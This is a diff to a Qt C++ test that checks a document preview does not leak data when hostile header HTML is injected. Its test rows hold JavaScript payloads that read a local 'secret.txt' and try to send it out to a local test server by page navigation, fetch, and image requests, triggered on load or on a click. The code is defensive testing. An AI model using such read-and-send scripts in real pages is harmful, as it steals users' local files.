@@ -126,58 +126,43 @@ void TestPreviewWeb::launcherLinksAreRefused() {
 }
 
 void TestPreviewWeb::hostileHeaderSendsNothing_data() {
-    QTest::addColumn<QString>("script"); // added to a page that defines read() and L
-    QTest::addColumn<QString>("act");    // what the user does: click "empty" or "link", key "Down"
+    QTest::addColumn<QString>("script"); // in a page that defines read() and L
+    QTest::addColumn<QPoint>("click");   // where the user clicks; the link "Out" is at 30, 30
     QTest::newRow("read on load, sent to a &comma; address")
-        << "addEventListener('load', () => location = L + read())"
-        << "";
+        << "addEventListener('load', () => location = L + read())" << QPoint();
     QTest::newRow("read on load, sent by requests")
-        << "addEventListener('load', () => { const d = read(); fetch(L + d, {mode: "
-           "'no-cors'}); new Image().src = L + d; navigator.sendBeacon(L, d); })"
-        << "";
+        << "addEventListener('load', () => { fetch(L + read(), {mode: 'no-cors'}); new "
+           "Image().src = L + read(); })"
+        << QPoint();
     QTest::newRow("read on a click elsewhere")
-        << "addEventListener('mousedown', () => location = L + read())"
-        << "empty";
-    QTest::newRow("read on a key press")
-        << "addEventListener('keydown', () => location = L + read())"
-        << "Down";
-    QTest::newRow("user's click on a link goes out") << ""
-                                                     << "link";
+        << "addEventListener('mousedown', () => location = L + read())" << QPoint(300, 100);
+    QTest::newRow("user's click on a link goes out") << "" << QPoint(30, 30);
 }
 
 void TestPreviewWeb::hostileHeaderSendsNothing() {
     QFETCH(QString, script);
-    QFETCH(QString, act);
+    QFETCH(QPoint, click);
     received.clear();
     const QString address = QStringLiteral("http://127.0.0.1:%1/leak").arg(server.serverPort());
     MainWindow w(&prompter);
     w.start({});
-    w.doc().setSetting(
-        "Header HTML",
-        "<a href=\"" + address +
-            "?clicked\" style=\"position: fixed; left: 0; top: 0; width: 60px; height: 60px; "
-            "display: block\">Out</a><script>const L = '" +
-            address +
-            "&comma;?d='; function read() { try { const x = new XMLHttpRequest(); x.open('GET', "
-            "'secret.txt', false); x.send(); return x.responseText; } catch (e) { return "
-            "'none'; } } " +
-            script + "</script>");
+    w.doc().setSetting("Header HTML",
+                       "<a href=\"" + address +
+                           "?out\" style=\"position: fixed; left: 0; top: 0; "
+                           "width: 60px; height: 60px\">Out</a><script>const L = '" +
+                           address +
+                           "&comma;?d='; function read() { const x = new "
+                           "XMLHttpRequest(); x.open('GET', 'secret.txt', false); "
+                           "try { x.send() } catch (e) {} return x.responseText; } " +
+                           script + "</script>");
     w.show();
     QVERIFY(QTest::qWaitForWindowExposed(&w));
     QWidget* browser = showPreview(w);
     QVERIFY(browser && browser->focusProxy());
-    QWidget* input = browser->focusProxy();
-    if (act == QLatin1String("Down"))
-        QTest::keyClick(input, Qt::Key_Down);
-    else if (!act.isEmpty())
-        QTest::mouseClick(input, Qt::LeftButton, {},
-                          act == QLatin1String("link") ? QPoint(30, 30)
-                                                       : QPoint(input->width() - 5, 100));
-    if (act == QLatin1String("link"))
-        QTRY_VERIFY_WITH_TIMEOUT(received.startsWith("GET /leak?clicked "), 10000);
-    else
-        QTest::qWait(3000);
-    QVERIFY2(act == QLatin1String("link") || received.isEmpty(), received.constData());
+    if (!click.isNull())
+        QTest::mouseClick(browser->focusProxy(), Qt::LeftButton, {}, click);
+    QTest::qWait(3000);
+    QCOMPARE(received.left(14), QByteArray(click == QPoint(30, 30) ? "GET /leak?out " : ""));
 }
 
 void TestPreviewWeb::otherPageLoadsAndLeavingBlanks() {
